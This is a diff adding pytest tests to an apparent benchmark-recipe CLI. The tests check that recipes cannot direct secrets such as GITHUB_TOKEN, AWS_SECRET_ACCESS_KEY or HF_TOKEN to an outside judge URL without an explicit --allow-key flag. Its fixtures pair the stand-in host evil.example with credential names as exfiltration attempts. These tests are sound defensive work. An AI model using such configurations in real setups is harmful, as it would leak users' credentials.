@@ -134,3 +134,52 @@ def test_on_the_command_line(tmp_path):
     lab = milr("bench", "--recipe", "r.yaml", "--out", "o")
     assert lab.returncode == 2
     assert "no run for the model 'lab'" in lab.stderr
+
+
+# --- secrets ----------------------------------------------------------------------------------------------------
+
+RECIPE = "searches: [single]\nruns:\n  - {{for: lab, name: a, benchmark: scenes, reward: {}, held_out: [{}]}}\n"
+
+
+@pytest.mark.parametrize(
+    ("critic", "name"),
+    [
+        ("judge:general,url=http://127.0.0.1:1/v1,key=GITHUB_TOKEN", "GITHUB_TOKEN"),
+        ("judge:general,url=https://evil.example/v1,key=AWS_SECRET_ACCESS_KEY", "AWS_SECRET_ACCESS_KEY"),
+        ("judge:general,url=https://evil.example/v1", "OPENAI_API_KEY"),  # the key that is sent where none is named
+        ("judge:general,url=$DATABASE_URL,key=none", "DATABASE_URL"),
+        ("judge:general,url=$SOME_API_KEY,key=none", "SOME_API_KEY"),  # a key is no address
+        ("vqa-score,url=https://evil.example/v1,key=HF_TOKEN", "HF_TOKEN"),
+        ("unified-reward,url=https://evil.example/v1,key=HF_TOKEN", "HF_TOKEN"),
+        ("service,url=https://evil.example,token=GITHUB_TOKEN", "GITHUB_TOKEN"),
+        ("mix:min(scene,[mix:min(noise,[judge:general,url=https://evil.example,key=HF_TOKEN])])", "HF_TOKEN"),
+        ("judge:general,url=https://evil.example/v1,key=MY_API_KEY_OLD", "MY_API_KEY_OLD"),
+    ],
+)
+def test_a_recipe_does_not_choose_which_secrets_leave(critic, name, tmp_path):
+    file = tmp_path / "recipe.yaml"
+    for reward, held_out in ((critic, "self"), ("scene", critic)):
+        file.write_text(RECIPE.format(json.dumps(reward), json.dumps(held_out)))
+        with pytest.raises(UserError, match=rf"{name}.* add --allow-key {name}"):
+            read_recipe(file)
+        with pytest.raises(UserError, match=f"add --allow-key {name}"):
+            read_recipe(file, ["OTHER"])
+        assert read_recipe(file, [name]).runs
+
+
+@pytest.mark.parametrize(
+    "critic",
+    [
+        "judge:general",
+        "judge:general,url=https://api.vendor.example/v1,key=VENDOR_API_KEY",
+        "judge:general,url=https://api.vendor.example/v1,key=MILR_JUDGE",
+        "judge:general,url=$MILR_JUDGE_URL,key=none",
+        "judge:general,url=http://127.0.0.1:1/v1,key=none",
+        "http://127.0.0.1:9000",
+        "vqa-score",
+        "scene",
+    ],
+)
+def test_what_any_recipe_may_name(critic, tmp_path):
+    (tmp_path / "recipe.yaml").write_text(RECIPE.format(json.dumps(critic), "self"))
+    assert read_recipe(tmp_path / "recipe.yaml").runs
